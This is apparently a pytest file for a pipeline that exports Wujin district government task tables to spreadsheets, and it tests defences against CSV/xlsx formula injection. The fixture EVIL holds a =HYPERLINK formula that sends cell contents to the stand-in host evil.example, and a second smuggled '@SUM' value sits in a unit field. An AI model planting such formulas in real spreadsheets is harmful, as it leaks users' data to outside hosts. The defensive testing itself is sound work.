"""Document text that a spreadsheet would run as a formula (=HYPERLINK(…), +cmd, -1+1, @SUM) is
written as text in every .xlsx and .csv the office downloads — the task-row export, the table
rendering, the summary and the ledger — while the ledger keeps its own 完成率 formulas; a filled
ledger imports the text without the quote it was given."""

import csv
import io

from openpyxl import load_workbook

from conftest import WUJIN
from pipeline.draft import DraftRequest, draft
from pipeline.draft.ledger import COL
from pipeline.draft.ledger_import import import_ledger
from pipeline.export.flat import write_csv, write_xlsx
from pipeline.export.office import write_table_xlsx
from pipeline.export.sheet import neutralise
from pipeline.extract import extract

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
DOCS = {"wujin_2026": {"district": "武进区"}}


def hostile_rows():
    tasks = extract(WUJIN).tasks
    # row 3 (a 商务局 row with a numeric target): its text and a responsible unit made hostile
    third = tasks[2].model_copy(update={"content": EVIL, "responsible_units": ["@SUM(1+1)各镇"]})
    assert third.targets and "商务局" in third.lead_units
    return [*tasks[:2], third, *tasks[3:]]


def all_cells(path):
    wb = load_workbook(path)
    return [(ws.title, c.coordinate, c.value, c.data_type) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_no_document_text_becomes_a_formula(tmp_path):
    rows = hostile_rows()
    out = {"flat": tmp_path / "rows.xlsx", "table": tmp_path / "table.xlsx", "summary": tmp_path / "summary.xlsx", "ledger": tmp_path / "ledger.xlsx"}
    write_xlsx(rows, out["flat"])
    write_table_xlsx(rows, out["table"], title="武进区2026年目标任务分解表")
    draft(rows, DOCS, DraftRequest(district="武进区", fmt="xlsx", out=out["summary"]))
    draft(rows, DOCS, DraftRequest(district="武进区", unit=["商务局"], period="2026Q1", fmt="xlsx", out=out["ledger"]))
    for name, path in out.items():
        cells = all_cells(path)
        formulas = [c for c in cells if c[3] == "f"]
        assert all(c[2].startswith("=") and "HYPERLINK" not in c[2] and "SUM(1+1)" not in c[2] for c in formulas), (name, formulas[:3])
        assert any(c[2] == "'" + EVIL for c in cells), name  # the text, kept as text
        if name == "ledger":
            rate_column = chr(ord("A") + COL["rate"] - 1)
            assert formulas and all(c[1].startswith(rate_column) for c in formulas)  # only its own 完成率
    buf = io.StringIO()
    write_csv(rows, buf)
    first = next(r for r in csv.reader(io.StringIO(buf.getvalue())) if EVIL in "".join(r))
    assert "'" + EVIL in first and not any(v.startswith(("=", "+", "@")) for v in first)


def test_a_filled_ledger_reads_its_text_back_without_the_quote(tmp_path):
    rows = extract(WUJIN).tasks
    ledger = tmp_path / "ledger.xlsx"
    draft(rows, DOCS, DraftRequest(district="武进区", unit=["商务局"], period="2026Q1", fmt="xlsx", out=ledger))
    wb = load_workbook(ledger)
    ws = wb["台账"]
    ws.cell(4, COL["progress"]).value = neutralise("-完成首店引进3家")  # what the next ledger would hold for this note
    wb.save(ledger)
    record = import_ledger(ledger)
    assert any(p.progress == "-完成首店引进3家" for p in record.tasks)


def test_neutralise_leaves_plain_text_and_numbers():
    assert neutralise("新增公共停车泊位1200个") == "新增公共停车泊位1200个" and neutralise(12) == 12 and neutralise("=1") == "'=1" and neutralise("\t=1") == "'\t=1"
